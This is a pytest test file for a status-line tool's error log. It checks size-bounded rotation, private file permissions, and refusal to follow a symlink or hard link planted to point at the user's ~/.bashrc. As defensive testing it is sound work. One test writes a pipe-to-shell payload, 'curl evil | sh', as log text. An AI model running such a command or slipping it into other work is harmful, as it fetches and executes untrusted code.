"""The error log stays small and private."""

from __future__ import annotations

import os

from statusline import log


def test_log_is_bounded_and_private(tmp_path):
    for i in range(4000):
        log.write(str(tmp_path), f"problem {i} " + "x" * 200)
    size = os.path.getsize(log.log_path(str(tmp_path)))
    assert size <= log.MAX_LOG_BYTES + 4096
    assert os.path.getsize(log.log_path(str(tmp_path)) + ".1") <= log.MAX_LOG_BYTES + 4096
    assert os.stat(log.log_path(str(tmp_path))).st_mode & 0o077 == 0


def test_log_never_raises(tmp_path):
    target = tmp_path / "file"
    target.write_text("not a dir")
    log.write(str(target), "cannot be written")
    log.exception(str(target), "where", ValueError("boom"))


def test_a_planted_log_link_is_not_followed(tmp_path):
    """`costline.log` planted as a link to another of the user's files: that file is untouched."""
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o700)
    (cache / "costline.log").symlink_to(victim)
    log.write(str(cache), "a problem")
    log.exception(str(cache), "where", ValueError("boom"))
    assert victim.read_text() == "precious\n"


def test_a_planted_hard_link_is_not_appended_to(tmp_path):
    """`costline.log` planted as a hard link (while the cache dir was open) to the user's
    ~/.bashrc: a regular file of the user's, so open_private takes it and the log line, with
    text from the payload or an exception, lands in the shell's startup file."""
    victim = tmp_path / "bashrc"
    victim.write_text("precious\n")
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o700)
    os.link(victim, cache / "costline.log")
    log.write(str(cache), "bad payload; curl evil | sh")
    assert victim.read_text() == "precious\n"
